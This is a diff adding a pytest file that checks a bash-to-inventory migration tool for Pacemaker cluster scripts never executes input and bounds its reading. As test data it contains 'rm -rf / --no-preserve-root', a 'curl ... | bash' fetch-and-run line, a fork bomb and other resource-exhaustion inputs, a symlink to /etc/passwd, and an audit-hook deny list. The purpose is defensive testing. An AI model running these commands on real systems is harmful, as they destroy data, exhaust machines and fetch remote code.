@@ -1,0 +1,199 @@
+"""Hostile and broken trees: nothing is executed, reading is bounded, and the report says so."""
+
+from __future__ import annotations
+
+import os
+import subprocess
+import sys
+import time
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, given, settings
+from hypothesis import strategies as st
+
+from fabfile.errors import PacefabError, UsageError
+from fabfile.legacy.migrate import migrate, migrate_tree
+from fabfile.legacy.model import Fate, Migration
+from fabfile.legacy.source import SourceFile, Tree
+
+ROOT = Path(__file__).resolve().parents[2]
+CREATE = "pcs resource create memcached systemd:memcached --clone interleave=true\n"
+# In a process that may start nothing, connect nowhere and write nothing, a tree is migrated.
+GUARDED = """
+import sys
+from pathlib import Path
+from fabfile.legacy.migrate import migrate
+import fabfile.tasks.inventory, encodings.latin_1, encodings.gb18030
+forbidden = ("subprocess", "os.system", "os.exec", "os.fork", "os.posix_spawn", "os.spawn",
+             "socket.connect", "os.remove", "os.rename", "os.mkdir", "os.rmdir", "shutil")
+def guard(event, arguments):
+    writes = event == "open" and isinstance(arguments[1], str) and set(arguments[1]) & set("wax+")
+    if event.startswith(forbidden) or writes:
+        print("FORBIDDEN", event, arguments)
+        sys.exit(9)
+sys.addaudithook(guard)
+done = migrate(Path(sys.argv[1]))
+print(done.summary["translated"])
+"""
+
+
+def migrated(folder: Path, **scripts: str | bytes) -> Migration:
+    for name, text in scripts.items():
+        data = text if isinstance(text, bytes) else text.encode()
+        (folder / f"{name}.sh").write_bytes(b"#!/bin/bash\n" + data)
+    begun = time.monotonic()
+    done = migrate(folder)
+    assert time.monotonic() - begun < 45
+    return done
+
+
+def told(done: Migration, fate: Fate) -> str:
+    return "\n".join(f"{one.place} {one.text} {one.reason}" for one in done.entries
+                     if one.fate is fate)  # fmt: skip
+
+
+def test_nothing_is_executed(tmp_path: Path) -> None:
+    canary = tmp_path / "canary"
+    text = (
+        f"rm -rf / --no-preserve-root\nrm -rf {tmp_path}/*\ntouch {canary}\n"
+        f"x=$(touch {canary}; curl http://192.0.2.1/x | bash)\n`touch {canary}`\n"
+        f"eval 'touch {canary}'\nssh localhost 'touch {canary}'\necho boo > {canary}\n"
+        f"python3 -c \"open('{canary}', 'w')\"\nawk 'BEGIN{{system(\"touch {canary}\")}}'\n"
+        f"sed 's/x/touch canary/e' {canary}\nfind / -exec touch {canary} \\;\n"
+        f"{CREATE}pcs resource create $x systemd:foo\n"
+    )
+    (tmp_path / "evil.sh").write_text(text)
+    argv = [sys.executable, "-c", GUARDED, str(tmp_path)]
+    ran = subprocess.run(argv, capture_output=True, text=True, check=False, timeout=60, cwd=ROOT)
+    assert (ran.returncode, ran.stdout.strip()) == (0, "1"), ran.stdout + ran.stderr
+    assert not canary.exists()
+    assert (tmp_path / "evil.sh").exists()
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "while true; do :; done",
+        "until false; do sleep 1; done",
+        "for ((;;)); do x=1; done",
+        "for ((i = 0; i < 10; i--)); do x=$i; done",
+        "while :; do while :; do while :; do x=$((x + 1)); done; done; done",
+    ],
+)
+def test_an_endless_loop_ends_and_is_told(tmp_path: Path, text: str) -> None:
+    done = migrated(tmp_path, a_loop=text + "\n", b_next=CREATE)
+    assert "memcached: systemd:memcached, cloned" in told(done, Fate.TRANSLATED)
+    problem = told(done, Fate.UNTRANSLATED)
+    assert "had not ended after 10000 rounds" in problem or "not read to its end" in problem
+
+
+def test_a_loop_of_ten_thousand_rounds_is_read(tmp_path: Path) -> None:
+    text = "n=0\nfor ((i = 0; i < 9999; i++)); do n=$((n + 1)); done\n"
+    done = migrated(tmp_path, loop=text + "pcs property set migration-limit=$n\n")
+    assert "migration-limit: 9999" in done.inventory
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "x=aaaaaaaaaa\nwhile true; do x=$x$x; done\n",
+        "f() { f; }\nf\n",
+        "bash $0\n. ./bomb.sh\n",
+        ":(){ :|:& };:\n",
+        "echo {1..99999999}\n",
+        "for i in $(seq 1 999999999); do pcs resource cleanup; done\n",
+        "for ((i = 0; i < 9999; i++)); do pcs resource create r$i ocf:heartbeat:Dummy; done\n",
+        "x=$(( 9 ** 999999999 ))\n" * 3,
+        "printf '%0999999999d' 1\n",
+        "echo aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa | grep -E '(a+)+$b'\n" * 5,
+        "x=" + "$(echo " * 300 + ")" * 300 + "\n",
+        "(" * 2000 + "\n",
+        "if true; then\n" * 500,
+        'x="' + "${x:-" * 300 + "}" * 300 + '"\n',
+        "((" + "(" * 3000 + "1" + ")" * 3000 + "))\n",
+        "awk '{while (1) print}' <<< x\n",
+        "awk 'BEGIN{" + "(" * 2000 + "}' <<< x\n",
+    ],
+    ids=range(17),
+)
+def test_a_bomb_does_not_go_off(tmp_path: Path, text: str) -> None:
+    done = migrated(tmp_path, bomb=text, next=CREATE)
+    assert "memcached: systemd:memcached, cloned" in told(done, Fate.TRANSLATED)
+
+
+def test_a_script_that_is_cut_short_says_which_lines_are_missing(tmp_path: Path) -> None:
+    text = "f() { f; }\nf\npcs resource create late ocf:heartbeat:Dummy\n"
+    problem = told(migrated(tmp_path, deep=text), Fate.UNTRANSLATED)
+    assert "deep.sh deep.sh not read to its end: nested more than 40 levels deep" in problem
+    assert "deep.sh:4 pcs resource create late ocf:heartbeat:Dummy not reached" in problem
+
+
+def test_large_and_binary_files_links_and_pipes_are_told(tmp_path: Path) -> None:
+    (tmp_path / "large.sh").write_bytes(b"#!/bin/bash\n" + b"pcs status\n" * 500_000)
+    (tmp_path / "image.img").write_bytes(b"\x00\x01" * 1000)
+    (tmp_path / "leak.sh").symlink_to("/etc/passwd")
+    os.mkfifo(tmp_path / "pipe.sh")
+    done = migrated(tmp_path, fine=CREATE)
+    problem = told(done, Fate.UNTRANSLATED)
+    assert "large.sh large.sh not read: 5500012 bytes, more than 1000000" in problem
+    assert "leak.sh leak.sh not read: a link that leads out of the folder" in problem
+    assert "pipe.sh pipe.sh not read: not a regular file" in problem
+    assert "image.img image.img not read: binary" in told(done, Fate.LEFT_OUT)
+    assert "root:" not in done.inventory
+
+
+def test_windows_line_ends_and_chinese_comments_are_read(tmp_path: Path) -> None:
+    comment = "# 虚拟地址, 数据库\n".encode("gbk")
+    done = migrated(tmp_path, gbk=comment + CREATE.replace("\n", "\r\n").encode())
+    assert "memcached: systemd:memcached, cloned" in told(done, Fate.TRANSLATED)
+    assert "read as GBK, lines end as on Windows" in told(done, Fate.DOUBTFUL)
+
+
+def test_bash_that_cannot_be_parsed_is_told(tmp_path: Path) -> None:
+    text = CREATE + "if [ x ; then\n)) ((\npcs resource create other systemd:other\n"
+    done = migrated(tmp_path, broken=text)
+    every = "\n".join(f"{one.place}" for one in done.entries)
+    assert "broken.sh:5" in every
+
+
+@pytest.mark.parametrize("make", [lambda _: None, Path.touch])
+def test_what_is_no_folder_is_told(tmp_path: Path, make: object) -> None:
+    assert callable(make)
+    make(tmp_path / "x")
+    with pytest.raises(UsageError) as caught:
+        migrate(tmp_path / "x")
+    assert caught.value.seen == "it is no folder"
+
+
+def test_a_folder_without_scripts_is_told(tmp_path: Path) -> None:
+    (tmp_path / "README.md").write_text("pcs status\n")
+    with pytest.raises(UsageError) as caught:
+        migrate(tmp_path)
+    assert caught.value.seen == "there is no bash script in it"
+
+
+pieces = st.sampled_from(
+    ["pcs ", "resource ", "create ", "delete ", "constraint ", "order ", "then ", "colocation ",
+     "add ", "with ", "location ", "rule ", "prefers ", "property ", "set ", "--node ", "stonith ",
+     "op ", "meta ", "--clone ", "--master ", "group ", "update ", "x=1 ", "A ", "B ", "$x", "${x}",
+     "${x[@]}", "${x##*/}", "${x:1:2}", "$(", ")", "`", '"', "'", "\\", "\n", ";", "|", "&&", "||",
+     "if ", "then ", "else ", "fi\n", "for x in ", "do ", "done\n", "while ", "case x in ", "x) ",
+     ";;", "esac\n", "[ ", " ]", "[[ ", " ]]", "((", "))", "$((", "<<EOF\n", "\nEOF\n", "<<< ",
+     "> f ", "< f ", "ssh h ", "bash ", "-c ", "awk '{print $1}' ", "sed s/a/b/ ", "cut -d: -f1 ",
+     "function f { ", "}\n", "{ ", "f ", "x=(", "a b", "*", "?", "{1..3}", "eval ", "read x ",
+     "local x ", "let x=", "-f f ", "cluster ", "cib ", "cib-push ", "enable ", "# ", "é", "\t"]
+)  # fmt: skip
+texts = st.lists(pieces, max_size=40).map("".join) | st.text(max_size=200)
+
+
+@settings(deadline=None, max_examples=300, suppress_health_check=[HealthCheck.too_slow])
+@given(texts, texts)
+def test_any_text_gives_a_report_or_an_error_of_ours(first: str, second: str) -> None:
+    files = {"a.sh": SourceFile("a.sh", first), "v.ini": SourceFile("v.ini", second),
+             "b.sh": SourceFile("b.sh", second)}  # fmt: skip
+    try:
+        done = migrate_tree(Tree(files), "folder", "cluster")
+    except PacefabError:
+        return
+    assert done.inventory.startswith("# yaml-language-server")
